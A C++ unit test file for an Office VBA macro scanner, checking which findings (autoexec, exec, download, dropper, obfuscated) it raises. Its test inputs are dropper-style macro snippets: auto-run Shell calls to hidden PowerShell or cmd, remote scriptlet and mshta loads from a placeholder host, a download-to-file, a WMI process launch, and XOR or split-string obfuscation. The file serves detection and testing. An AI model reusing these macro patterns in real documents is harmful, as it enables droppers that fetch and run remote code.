#include "scanner/office/macro_findings.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "model/finding.h"
#include "tests/fixtures/droppers.h"
#include "tests/fixtures/mutate.h"

namespace sekisho::scanner::office {
namespace {

using Ids = std::vector<std::string>;

Findings findings_of(const fixtures::VbaProject& project) {
    MacroTraits traits;
    for (const fixtures::VbaModule& module : project.modules)
        (void)traits.read(module.source, module.name);
    Findings findings(100);
    traits.report(0, findings);
    return findings;
}
Findings findings_of(std::string source) {
    fixtures::VbaProject project;
    project.modules.push_back({"M", std::move(source), false});
    return findings_of(project);
}
Ids ids(const Findings& findings) {
    Ids out;
    for (const auto& finding : findings.all())
        out.push_back(finding.id.substr(11));  // without "office.vba."
    return out;
}
double score(const Findings& findings) {
    double sum = model::find_finding("office.macro")->score;
    for (const auto& finding : findings.all())
        sum += model::find_finding(finding.id)->score;
    return sum;
}

TEST(MacroFindings, EachWaveIsMalicious) {
    for (const fixtures::Dropper& dropper : fixtures::vba_droppers()) {
        const Findings findings = findings_of(fixtures::dropper_project(dropper.wave));
        EXPECT_TRUE(findings.has("office.vba.autoexec")) << dropper.wave;
        EXPECT_TRUE(findings.has("office.vba.dropper")) << dropper.wave;
        EXPECT_GE(score(findings), 10.0) << dropper.wave;
    }
}

TEST(MacroFindings, OrdinaryWorkbookStaysBelowSuspicious) {
    const Findings findings = findings_of(fixtures::benign_project());
    EXPECT_EQ(ids(findings), (Ids{"autoexec", "write"}));
    EXPECT_LT(score(findings), 5.0);
    EXPECT_EQ(ids(findings_of(fixtures::stub_project())), Ids{});
}

struct Source {
    std::string_view name;
    std::string_view text;
    Ids ids;
};
class MacroCases : public testing::TestWithParam<Source> {};
TEST_P(MacroCases, Give) { EXPECT_EQ(ids(findings_of(std::string(GetParam().text))), GetParam().ids); }

INSTANTIATE_TEST_SUITE_P(
    All, MacroCases,
    testing::Values(
        Source{"empty", "", {}},
        Source{"explorer",
               "Sub Workbook_Open()\nShell \"explorer.exe C:\\Data\", vbNormalFocus\nEnd Sub",
               {"autoexec"}},
        Source{"harmless_path", "Sub A()\nShell(\"C:\\Windows\\notepad.exe x.txt\")\nEnd Sub", {}},
        Source{"shell_of_variable", "Sub A()\nShell path, 1\nEnd Sub", {"exec"}},
        Source{"method_by_name",
               "Sub AutoOpen()\nCallByName CreateObject(\"WScript.Shell\"), \"R\" & \"un\", 1, x\nEnd Sub",
               {"autoexec", "exec", "dropper"}},
        Source{"property_by_name", "Sub A()\nx = CallByName(form, \"Caption\", 2)\nEnd Sub", {}},
        Source{"scriptlet_of_the_web",
               "Sub AutoOpen()\nSet a = GetObject(\"script:http://example.invalid/a\")\nEnd Sub",
               {"autoexec", "exec", "dropper"}},
        Source{"scheduled", "Sub A()\nSet a = CreateObject(\"Schedule.Service\")\nEnd Sub", {"exec"}},
        Source{"library_registered", "Sub A()\nApplication.RegisterXLL path\nEnd Sub", {"exec"}},
        Source{"shell_behind_tabs", "Sub A()\n\tShell$ \t\t path, 1\nEnd Sub", {"exec"}},
        Source{"harmless_behind_tabs", "Sub A()\nShell\t\"notepad.exe\"\nEnd Sub", {}},
        Source{
            "prose", "' Sorts by the Shell method, after Shell (1959)\nSub ShellSort(x)\nEnd Sub", {"exec"}},
        Source{"prose_without_call", "' the Shell sort\nSub ShellSort(x)\nEnd Sub", {}},
        Source{"powershell",
               "Sub AutoOpen()\nShell \"powershell -w hidden\"\nEnd Sub",
               {"autoexec", "exec", "dropper"}},
        Source{"case", "SUB AUTOOPEN()\nSHELL(\"CMD /C X\")\nEND SUB", {"autoexec", "exec", "dropper"}},
        Source{"continued", "Sub _\n  AutoOpen()\nEnd Sub", {"autoexec"}},
        Source{"not_declared", "Sub A()\n' AutoOpen would be called\nEnd Sub", {}},
        Source{"button",
               "Sub CommandButton1_Click()\nCreateObject(\"WScript.Shell\").Run \"x.bat\"\nEnd Sub",
               {"exec"}},
        Source{"popup",
               "Sub Workbook_Open()\nCreateObject(\"WScript.Shell\").Popup \"hi\"\nEnd Sub",
               {"autoexec"}},
        Source{"serial_number",
               "Sub Workbook_Open()\nSet w = GetObject(\"winmgmts:\").ExecQuery(\"select * from "
               "win32_bios\")\nEnd Sub",
               {"autoexec"}},
        Source{"wmi",
               "Sub Document_Open()\nGetObject(\"winmgmts:Win32_Process\").Create c\nEnd Sub",
               {"autoexec", "exec", "dropper"}},
        Source{"price_list",
               "Sub Workbook_Open()\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Send\nEnd Sub",
               {"autoexec"}},
        Source{"fetch_to_file",
               "Sub AutoOpen()\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nSet s = "
               "CreateObject(\"ADODB.Stream\")\ns.SaveToFile p\nEnd Sub",
               {"autoexec", "download", "write", "dropper"}},
        Source{"open_for_output", "Sub A()\nOpen p For Output As #1\nEnd Sub", {"write"}},
        Source{"loop", "Sub A()\nFor outputs = 1 To 3\nNext\nEnd Sub", {}},
        Source{"activex", "Sub InkPicture1_Painted(ByVal h As Long)\nEnd Sub", {"autoexec"}},
        Source{"reversed", "Sub A()\nx = StrReverse(\"exe.23rvsger\")\nEnd Sub", {"obfuscated"}}),
    [](const auto& info) { return std::string(info.param.name); });

TEST(MacroFindings, SplitKeywordsAreObfuscation) {
    const Findings findings = findings_of(
        "Sub AutoOpen()\nCreateObject(\"WSc\" & \"ript.She\" & \"ll\").Run Chr(99) & \"md /c x\"\nEnd Sub");
    EXPECT_EQ(ids(findings), (Ids{"autoexec", "exec", "obfuscated", "dropper"}));
    EXPECT_EQ(findings.all()[0].evidence, "M: sub autoopen()");
}

// Strings that only variables, functions and loops bring together.
TEST(MacroFindings, BuiltStringsAreSeen) {
    EXPECT_EQ(
        ids(findings_of("Sub AutoOpen()\nc = \"c\"\nc = c & \"md\"\nc = c & \" /c x\"\nShell c\nEnd Sub")),
        (Ids{"autoexec", "exec", "obfuscated", "dropper"}));
    EXPECT_EQ(ids(findings_of(
                  "Function P()\nP = \"WSc\" & \"ript\"\nEnd Function\nSub AutoOpen()\nCreateObject(P & "
                  "\".She\" & \"ll\").Run \"x\"\nEnd Sub")),
              (Ids{"autoexec", "exec", "obfuscated", "dropper"}));
    EXPECT_EQ(ids(findings_of("Sub AutoOpen()\na = Array(32, 46, 39, 99, 108, 32, 99, 59)\nFor i = 0 To 7\nc "
                              "= c & Chr(a(i) Xor 67)\nNext\n"
                              "Shell c\nEnd Sub")),
              (Ids{"autoexec", "exec", "obfuscated", "dropper"}));
}

TEST(MacroFindings, AVariableIsNoHarmlessProgram) {
    EXPECT_EQ(ids(findings_of("Sub A()\np = \"explorer.exe x\"\no.Change p\nShell p\nEnd Sub")),
              (Ids{"exec"}));
}

// Constants that are spelt in codes start what they say, and nothing else.
TEST(MacroFindings, AHarmlessProgramInCodesIsHarmless) {
    EXPECT_EQ(ids(findings_of("Sub A()\nShell Chr(99) & Chr(97) & \"lc\"\nEnd Sub")), Ids{});
    EXPECT_EQ(ids(findings_of("Sub A()\nShell StrReverse(\"clac\")\nEnd Sub")), Ids{"obfuscated"});
    EXPECT_EQ(ids(findings_of("Sub A()\nShell Chr(99) & Chr(98) & \"lc\"\nEnd Sub")), Ids{"exec"});
    EXPECT_EQ(
        ids(findings_of("Sub A()\nShell Chr(99) & \"alc\"\np = \"calc\"\no.Change p\nShell p\nEnd Sub")),
        Ids{"exec"});
}

// The alphabet, letters of columns, a separator: what honest macros build from codes.
TEST(MacroFindings, HonestLoopsAreNoObfuscation) {
    EXPECT_EQ(
        ids(findings_of("Sub A()\nFor i = 1 To 26\ns = s & Chr(64 + i)\nNext\nRange(s).Select\nEnd Sub")),
        Ids{});
}

TEST(MacroFindings, FoldingThatReachesALimitIsTold) {
    std::string source = "Sub A()\n";
    for (int i = 0; i < 40; ++i)
        source += "Debug.Print z & String(40000, \"b\")\n";
    EXPECT_EQ(findings_of(source + "End Sub").all().at(0).id, "fold.limit");
}

TEST(MacroFindings, FactsJoinOverModules) {
    fixtures::VbaProject project;
    project.modules.push_back({"ThisDocument", "Sub AutoOpen()\nRunIt\nEnd Sub", true});
    project.modules.push_back(
        {"Module1", "Sub RunIt()\nShell \"mshta http://example.invalid/\"\nEnd Sub", false});
    EXPECT_TRUE(findings_of(project).has("office.vba.dropper"));
}

TEST(MacroFindingsProperty, MutatedSourcesNeverCrash) {
    for (const fixtures::Dropper& dropper : fixtures::vba_droppers()) {
        for (std::uint32_t seed = 1; seed <= 400; ++seed) {
            MacroTraits traits;
            (void)traits.read(fixtures::mutate(std::string(dropper.source), seed), "M");
        }
    }
}

}  // namespace
}  // namespace sekisho::scanner::office
